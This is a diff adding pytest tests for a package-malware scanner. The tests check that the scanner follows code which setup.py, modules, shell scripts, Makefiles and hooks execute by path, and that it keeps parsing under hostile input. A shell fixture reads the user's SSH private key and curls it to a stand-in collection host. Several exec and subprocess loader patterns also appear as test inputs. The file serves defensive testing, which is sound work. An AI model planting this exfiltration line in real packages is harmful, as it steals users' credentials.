@@ -1,0 +1,131 @@
+"""What code starts by its path is read at that moment: texts that are executed, scripts that a command names."""
+
+from __future__ import annotations
+
+import time
+from pathlib import Path
+
+import pytest
+
+from scanner.code.shell import read_hooks, read_makefile, read_shell, started_by
+from tests.code.test_kinds import HONEST, STEALER, of_sdist, of_tree, of_wheel, places, runs_unread
+
+SHELL = '#!/bin/sh\nKEY=$(cat ~/.ssh/id_rsa)\ncurl \\\n  -d "$KEY" https://collect.invalid/\n'
+EXECUTED = [
+    "exec(open('x.txt').read())",
+    "from pathlib import Path\nexec(Path('x.txt').read_text())",
+    "from pathlib import Path\nexec((Path(__file__).parent / 'x.txt').read_bytes())",
+    "with open('x.txt') as opened:\n    exec(opened.read())",
+    "exec(compile(open('x.txt', 'rb').read(), 'x.txt', 'exec'), {})",
+    "import os\nhere = os.path.abspath(os.path.dirname(__file__))\nexec(open(os.path.join(here, 'x.txt')).read())",
+    "import os\nexec(open(os.path.dirname(__file__) + '/x.txt').read())",
+    "import os\nhere = os.path.dirname(__file__)\nexec(open(f'{here}/x.txt').read())",
+    "def run(path):\n    exec(open(path).read())\nrun('x.txt')",
+    "import runpy\nrunpy.run_path('x.txt')",
+    "import imp\nimp.load_source('x', 'x.txt')",
+    "import importlib.util\nimportlib.util.spec_from_file_location('x', 'x.txt')",
+    "import subprocess, sys\nsubprocess.check_call([sys.executable, 'x.txt'])",
+    "import os\nos.system('python3 -u ./x.txt --all')",
+]
+
+
+@pytest.mark.parametrize("code", EXECUTED)
+def test_a_text_that_setup_executes_is_read_at_install(code: str) -> None:
+    found = of_sdist({"setup.py": code, "x.txt": STEALER})
+    assert found.verdict == "malicious"
+    assert ("example-1.0/x.txt", 2) in places(found)
+    assert "install" in {one.trigger for one in found.findings}
+    assert of_sdist({"setup.py": code, "x.txt": HONEST}).verdict in {"clean", "noted"}
+
+
+@pytest.mark.parametrize("code", EXECUTED)
+def test_a_text_that_a_module_executes_is_read_at_import(code: str) -> None:
+    found = of_wheel({"example/__init__.py": code, "example/x.txt": STEALER})
+    assert found.verdict == "malicious"
+    assert ("example/x.txt", 2) in places(found)
+
+
+def test_package_data_that_is_executed_is_read() -> None:
+    code = "import pkgutil\nexec(pkgutil.get_data('example', 'x.dat'))\n"
+    assert of_wheel({"example/__init__.py": code, "example/x.dat": STEALER}).verdict == "malicious"
+    assert of_wheel({"example/__init__.py": code.replace("'example'", "__name__"), "example/x.dat": STEALER}).findings
+
+
+@pytest.mark.parametrize(
+    "code",
+    [
+        "import subprocess\nsubprocess.run(['sh', 'tools/x.sh'])",
+        "import os\nos.system('cd . && bash -e tools/x.sh')",
+        "import os\nos.system('./tools/x.sh')",
+        "import os\nos.system('sh tools/run')",
+        "import subprocess\nsubprocess.run(['sh', 'tools/plain'])",
+    ],
+)
+def test_a_shell_script_that_setup_starts_is_read(code: str) -> None:
+    found = of_sdist({"setup.py": code, "tools/x.sh": SHELL, "tools/run": SHELL, "tools/plain": SHELL[10:]})
+    assert "shell-line" in found.deciding_rules
+    assert {line for path, line in places(found) if path.startswith("example-1.0/tools/")} == {
+        2 if "plain" in code else 3
+    }
+    honest = of_sdist(
+        {"setup.py": code, "tools/x.sh": "#!/bin/sh\nmake all\n", "tools/run": "#!/bin/sh\nmake\n", "tools/plain": ""}
+    )
+    assert honest.verdict != "malicious"
+
+
+def test_a_script_that_a_started_script_starts_is_read() -> None:
+    files = {
+        "setup.py": "import os\nos.system('sh a.sh')",
+        "a.sh": "sh ./b.sh\n",
+        "b.sh": "python c.txt\n",
+        "c.txt": STEALER,
+    }
+    assert ("example-1.0/c.txt", 2) in places(of_sdist(files))
+
+
+@pytest.mark.parametrize("data", [b"\0\1\2" * 100, b"# " + b"x" * 2_000_000])
+def test_what_is_executed_and_not_read_is_a_gap_at_that_moment(data: bytes) -> None:
+    found = of_sdist({"setup.py": "exec(open('x.txt').read())", "x.txt": data})
+    assert runs_unread(found) == {"example-1.0/x.txt"}
+
+
+def test_a_text_that_is_only_read_is_not_run(tmp_path: Path) -> None:
+    code = "text = open('README.txt').read()\nprint(text)\n"
+    assert of_sdist({"setup.py": code, "README.txt": STEALER}).verdict == "clean"
+    assert of_tree(tmp_path, {"setup.py": "import os\nos.system('cat x.txt')", "x.txt": STEALER}).verdict != "malicious"
+
+
+def test_lines_of_shell_stand_where_they_stood() -> None:
+    text = read_shell(b"#!/bin/sh\nA=1 # x\necho \\\n $A\npython3 - <<EOF\nimport os\nEOF\ncat <<'X'\ncurl x\nX\nls\n")
+    lines = text.split("\n")
+    assert lines[2] == "shell_line('echo  1 # x')"
+    assert "exec('import os')" in lines[4]
+    assert lines[8] == "shell_line('curl x')"
+    assert lines[10] == "shell_line('ls')"
+
+
+def test_recipes_and_hooks() -> None:
+    assert "shell_line('python tools/x')" in read_makefile(b"PY = python\nall:\n\t@$(PY) tools/x\n")
+    assert "shell_line('python tools/x')" in read_hooks(b"    - {id: x, language: system, entry: python tools/x}\n")
+    assert "shell_line('python tools/x')" in read_hooks(b"      - id: x\n        entry: 'python tools/x'\n")
+    assert ("tools/x", "python") in list(started_by("cd a; FOO=1 python3 -u tools/x --b"))
+    assert ("a/b", "shell") in list(started_by("sudo bash -e a/b"))
+
+
+def test_hostile_shell_costs_little() -> None:
+    started = time.process_time()
+    for line in (
+        "$(" * 200_000,
+        "a" * 500_000,
+        "sudo " * 100_000,
+        "X=1 " * 100_000,
+        "<<" * 200_000,
+        "A=" + "$A" * 200_000,
+    ):
+        list(started_by(line))
+        for read in (read_shell, read_makefile, read_hooks):
+            read((line + "\n" + line + "\\\n" + line).encode())
+    read_shell(b"\\\n" * 200_000)
+    list(started_by("x=1 " * 1000))
+    list(started_by("a/" * 2000))
+    assert time.process_time() - started < 10
